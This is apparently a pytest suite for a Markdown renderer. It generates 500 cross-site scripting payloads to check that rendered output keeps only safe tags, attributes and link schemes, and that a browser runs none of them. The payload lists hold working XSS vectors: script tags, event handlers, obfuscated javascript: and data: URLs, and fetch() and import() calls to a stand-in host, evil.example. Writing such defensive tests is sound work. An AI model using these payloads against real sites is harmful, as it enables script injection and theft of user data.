"""What people write in Markdown is shown by one function, and nothing in it runs (U3)."""

from __future__ import annotations

import itertools
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from estrade.kernel.markdown import render

CALLS = ["alert(1)", "top.canary=1", "eval('alert(1)')", "import('//evil.example/x.js')", "fetch('//evil.example/')"]
# Ways to smuggle code: {0} is what would run.
RAW = [
    "<script>{0}</script>", "<ScRiPt>{0}</sCrIpT>", "<script src=//evil.example/{0}></script>", "<img src=x onerror={0}>",
    "<img src=x onerror={0}//", "<svg onload={0}>", "<svg><script>{0}</script></svg>", "<math><mtext><img src=x onerror={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>", "<iframe src=javascript:{0}></iframe>", "<body onload={0}>",
    "<details open ontoggle={0}>x</details>", "<a href=javascript:{0}>x</a>", "<a href=' javascript:{0}'>x</a>",
    "<form action=javascript:{0}><button>x</button></form>", "<object data=javascript:{0}>", "<embed src=javascript:{0}>",
    "<style>@import 'javascript:{0}'</style>", "<link rel=stylesheet href=javascript:{0}>", "<base href=javascript:{0}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<template><script>{0}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>", "<!--><img src=x onerror={0}>-->", "<video><source onerror={0}>",
    "<input autofocus onfocus={0}>", "<marquee onstart={0}>x</marquee>", "<xmp><img src=x onerror={0}></xmp>",
    "<div style='x:{0}'>x",
    "<p onclick={0}>x</p>",
]  # fmt: skip
LINKED = [
    "[x](javascript:{0})", "[x](JaVaScRiPt:{0})", "[x](java\tscript:{0})", "[x](java&#10;script:{0})", "[x](&#106;avascript:{0})",
    "[x](javascript&colon;{0})", "[x](\x01javascript:{0})", "[x](vbscript:{0})", "[x](data:text/html,<script>{0}</script>)",
    "[x](<javascript:{0}>)", "[x][1]\n\n[1]: javascript:{0}", "<javascript:{0}>", "![x](javascript:{0})", '![x](x "onerror={0}")',
    '[x](https://example.org "x\\" onmouseover=\\"{0}")', "[x](https://example.org/\"onmouseover={0})", "[x](//evil.example/{0})",
    "![x\" onerror=\"{0}](https://evil.example/x.png)", "[<img src=x onerror={0}>](https://example.org)", "[x](blob:{0})",
]  # fmt: skip
WRAPS = [
    "{0}",
    "# {0}",
    "- {0}",
    "> {0}",
    "**{0}**",
    "`{0}`{0}",
    "```{0}\n{0}\n```",
    "|a|b|\n|-|-|\n|{0}|{0}|",
    "{0}\n{0}",
    "1. {0}\n\n    {0}",
]
ALLOWED = {
    "p", "br", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "code", "pre", "blockquote", "a", "hr",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
# Follows every link that stays in the page; the others would only leave it.
PRESS = """
for (const link of document.links) {
  link.addEventListener("click", (event) => { if (link.protocol !== "javascript:") event.preventDefault(); });
  link.click();
}
"""


def payloads() -> list[str]:
    """500 of them: each way at least once with each call, in every place that Markdown has."""
    ways = itertools.product(WRAPS, RAW + LINKED)
    calls = itertools.cycle(CALLS)
    return [wrap.replace("{0}", way.replace("{0}", next(calls))) for wrap, way in ways]


class Elements(HTMLParser):
    """Every tag of a page with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.mark.embedded
def test_nothing_of_500_payloads_is_left_but_words_u3() -> None:
    tried = payloads()

    wrong = [
        (text, tag, attrs)
        for text in tried
        for tag, attrs in Elements(render(text)).found
        if tag not in ALLOWED
        or set(attrs) - {"href", "rel", "title"}
        or urlsplit(attrs.get("href") or "").scheme not in {"", "http", "https"}
    ]

    assert len(set(tried)) == 500
    assert wrong == []


@pytest.mark.embedded
def test_links_to_places_stay_u3() -> None:
    assert '<a href="https://example.org/a?b=1" rel="noopener nofollow ugc">' in render("[x](https://example.org/a?b=1)")


@pytest.mark.browser
def test_a_browser_runs_nothing_of_500_payloads_u3(browser: Browser) -> None:
    asks = "<!doctype html><script>window.runs = 0; window.alert = () => { runs += 1 }</script>"
    shown = asks + "".join(f"<section>{render(text)}</section>" for text in payloads())
    page = browser.new_page()
    page.route("**/*", lambda route: route.abort())

    # Without the Content-Security-Policy that pages have besides: the function has to hold alone.
    page.set_content(shown)
    page.evaluate(PRESS)
    ran = page.evaluate("[runs, window.canary ?? 0, document.scripts.length]")
    page.set_content(asks + "<img src=x onerror=alert(1)>")
    page.wait_for_function("runs === 1")

    assert ran == [0, 0, 1]
